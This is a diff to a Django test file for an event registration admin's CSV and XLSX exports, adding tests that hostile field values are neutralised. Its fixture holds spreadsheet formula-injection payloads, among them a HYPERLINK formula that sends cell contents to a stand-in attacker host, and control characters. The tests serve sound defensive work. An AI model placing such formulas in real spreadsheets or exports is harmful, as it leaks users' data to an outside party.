@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import csv
+import datetime
 import io
 from http import HTTPStatus
 
+import openpyxl
 import pytest
 from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Group, Permission
@@ -55,6 +57,59 @@ def test_event_can_be_added_under_the_agenda(admin_client, agenda):
     assert admin_client.get(url).status_code == HTTPStatus.OK
 
 
+def _csv_rows(response) -> list[list[str]]:
+    """The admin's CSV: UTF-8 with a byte-order mark and `;`, for French spreadsheets."""
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
+
+
+HOSTILE = {
+    "first_name": "+1+1",
+    "last_name": "@SUM(A1:A9)",
+    "role": '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")',
+    # Control characters an XLSX file cannot hold (openpyxl refused them: a 500); not NUL,
+    # which PostgreSQL does not store.
+    "accessibility_needs": "Fauteuil\x01 roulant\x0b\x1b[31m, boucle\x08 magnétique",
+}
+
+
+def test_registration_with_control_characters_and_formulas_exports_as_xlsx(admin_client, event):
+    RegistrationFactory(event=event, email="piege@exemple.org", attended=True, **HOSTILE)
+    response = admin_client.get(reverse("inscriptions:index") + "?export=xlsx")
+    assert response.status_code == HTTPStatus.OK
+    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    rows = list(workbook.active.iter_rows(values_only=True))
+    headings, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
+    assert headings[:2] == ("Événement", "État")
+    assert row["Prénom"] == "'+1+1"
+    assert row["Nom"] == "'@SUM(A1:A9)"
+    assert row["Fonction"] == '\'=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")'
+    assert row["Besoins d'accessibilité"] == "Fauteuil roulant[31m, boucle magnétique"
+    assert row["État"] == "Confirmée"
+    assert row["Présent"] == "Oui"
+    assert row["Événement"] == "Qualité de l'eau"
+    assert isinstance(row["Inscrit le"], datetime.datetime)
+
+
+def test_registration_with_control_characters_and_formulas_exports_as_csv(admin_client, event):
+    RegistrationFactory(event=event, email="piege@exemple.org", **HOSTILE)
+    response = admin_client.get(reverse("inscriptions:index") + "?export=csv")
+    assert response.status_code == HTTPStatus.OK
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    headings, values = _csv_rows(response)
+    row = dict(zip(headings, values, strict=True))
+    assert row["Prénom"] == "'+1+1"
+    assert row["Nom"] == "'@SUM(A1:A9)"
+    assert row["Fonction"].startswith("'=HYPERLINK(")
+    assert row["Besoins d'accessibilité"] == "Fauteuil roulant[31m, boucle magnétique"
+    assert row["État"] == "Confirmée"
+    # Programs can ask for commas (and get no byte-order mark).
+    plain = admin_client.get(reverse("inscriptions:index") + "?export=csv&sep=comma")
+    body = b"".join(plain.streaming_content).decode("utf-8")
+    assert body.startswith("Événement,État,")
+
+
 def test_registrations_list_and_csv_export(admin_client, event):
     RegistrationFactory(event=event, first_name="Awa", last_name="Traoré", email="awa@exemple.org")
     RegistrationFactory(
@@ -65,10 +120,11 @@ def test_registrations_list_and_csv_export(admin_client, event):
     assert "awa@exemple.org" in listing.text
     export = admin_client.get(reverse("inscriptions:index") + "?export=csv")
     assert export.status_code == HTTPStatus.OK
-    body = b"".join(export.streaming_content).decode("utf-8")
-    rows = list(csv.reader(io.StringIO(body)))
+    rows = _csv_rows(export)
     assert rows[0][:5] == ["Événement", "État", "Prénom", "Nom", "Adresse électronique"]
     assert {row[4] for row in rows[1:]} == {"awa@exemple.org", "koffi@exemple.org"}
+    # Labels, not codes.
+    assert {row[1] for row in rows[1:]} == {"Confirmée", "Liste d'attente"}
     filtered = admin_client.get(reverse("inscriptions:index") + "?status=attente&export=csv")
     body = b"".join(filtered.streaming_content).decode("utf-8")
     assert "koffi@exemple.org" in body and "awa@exemple.org" not in body
@@ -148,9 +204,9 @@ def test_the_admin_refuses_a_session_ending_before_it_starts(admin_client, event
 
 
 def test_the_admin_saves_the_working_group(admin_client, event, home):
-    from resources.tests.factories import GroupIndexPageFactory, GroupPageFactory
+    from working_groups.tests.factories import GroupPageFactory
 
-    group = GroupPageFactory(parent=GroupIndexPageFactory(parent=home), title="Groupe Togo")
+    group = GroupPageFactory(parent=home, title="Groupe Togo")
     url = reverse("wagtailadmin_pages:edit", args=[event.pk])
     assert "Groupe de travail" in admin_client.get(url).text
     response = admin_client.post(
